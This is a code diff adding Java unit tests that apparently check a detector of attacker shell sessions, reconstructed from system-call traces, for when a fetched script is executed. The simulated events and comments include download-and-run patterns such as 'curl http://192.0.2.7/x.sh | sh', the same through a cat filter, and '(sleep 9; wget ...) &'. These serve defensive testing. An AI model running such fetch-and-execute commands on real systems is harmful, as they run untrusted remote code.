@@ -316,6 +316,99 @@ class InfectionFoldTest {
     assertThat(stage("4a").orElseThrow().command()).isEqualTo(1);
   }
 
+  /** As {@code (sleep 9; wget ...) &}: the shell makes a copy of itself, which starts programs. */
+  @Test
+  void whatGoesOnInTheBackgroundIsOfTheCommandThatBeganIt() {
+    type(1);
+    begin(21, SHELL);
+    type(2);
+    call(21, "chdir", "", "/tmp", "\"/tmp\"");
+    begin(22, 21);
+    start(22, "/bin/uname", "uname");
+    end(22, 0);
+    assertThat(fold.infection().stages()).extracting(StageSeen::command).containsExactly(1, 1);
+    assertThat(fold.commands()).extracting(CommandSeen::number).containsExactly(1);
+  }
+
+  @Test
+  void aShellThatIsTypedTakesTheNextCommandsAndOneWithCommandsOfItsOwnDoesNot() {
+    type(1);
+    begin(21, SHELL);
+    start(21, "/bin/sh", "sh", "-c", "sleep 9; cd /tmp");
+    begin(22, SHELL);
+    start(22, "/bin/sh", "sh");
+    type(2);
+    call(21, "chdir", "", "/tmp", "\"/tmp\"");
+    call(22, "chdir", "", "/mnt", "\"/mnt\"");
+    assertThat(fold.commands())
+        .extracting(seen -> seen.number() + " " + seen.stages())
+        .containsExactly("1 [1, 2]", "2 [2]");
+  }
+
+  /** As {@code curl URL | sh}, with a filter between or without. */
+  private void pipe(int from, int to) {
+    call(SHELL, "pipe2", "", "", "[3, 4]", "0");
+    begin(from, SHELL);
+    begin(to, SHELL);
+    call(from, "dup2", "", "", "4", "1");
+    call(to, "dup2", "", "", "3", "0");
+    call(SHELL, "close", "", "", "3");
+    call(SHELL, "close", "", "", "4");
+  }
+
+  @Test
+  void aScriptThatAShellReadsAsItIsFetchedIsRun() {
+    type(1);
+    pipe(21, 22);
+    start(21, "/usr/bin/curl", "curl", "http://192.0.2.7/x.sh");
+    start(22, "/bin/sh", "sh");
+    call(22, "read", "", "", "0", "0x1", "8192");
+    assertReached("1");
+    connect(21);
+    call(21, "write", "", "", "1", "\"id\\n\"", "3");
+    call(22, "read", "", "", "0", "0x1", "8192");
+    assertReached("1", "6a");
+  }
+
+  @Test
+  void whatGoesThroughAFilterIsFetchedAllTheSame() {
+    type(1);
+    call(SHELL, "pipe2", "", "", "[3, 4]", "0");
+    begin(21, SHELL);
+    call(21, "dup2", "", "", "4", "1");
+    call(SHELL, "close", "", "", "4");
+    call(SHELL, "pipe2", "", "", "[4, 5]", "0");
+    begin(22, SHELL);
+    call(22, "dup2", "", "", "3", "0");
+    call(22, "dup2", "", "", "5", "1");
+    begin(23, SHELL);
+    call(23, "dup2", "", "", "4", "0");
+    start(21, "/usr/bin/wget", "wget", "-O", "-", "http://192.0.2.7/x.sh");
+    connect(21);
+    call(21, "write", "", "", "1", "\"id\\n\"", "3");
+    start(22, "/bin/cat", "cat");
+    call(22, "write", "", "", "1", "\"id\\n\"", "3");
+    start(23, "/bin/sh", "sh");
+    call(23, "read", "", "", "0", "0x1", "8192");
+    assertReached("1", "6a");
+  }
+
+  @Test
+  void whatNobodyFetchedOrNoShellExecutesIsNoScript() {
+    type(1);
+    pipe(21, 22);
+    start(21, "/bin/cat", "cat", "x.sh");
+    call(21, "write", "", "", "1", "\"id\\n\"", "3");
+    start(22, "/bin/sh", "sh");
+    call(22, "read", "", "", "0", "0x1", "8192");
+    pipe(23, 24); // as: wget -O - URL | while read line
+    start(23, "/usr/bin/wget", "wget", "-O", "-", "http://192.0.2.7/x");
+    connect(23);
+    call(23, "write", "", "", "1", "\"id\\n\"", "3");
+    call(24, "read", "", "", "0", "0x1", "1");
+    assertReached("1");
+  }
+
   @Test
   void eachCommandHasItsCallsWithoutThoseOfTheStart() {
     type(1);
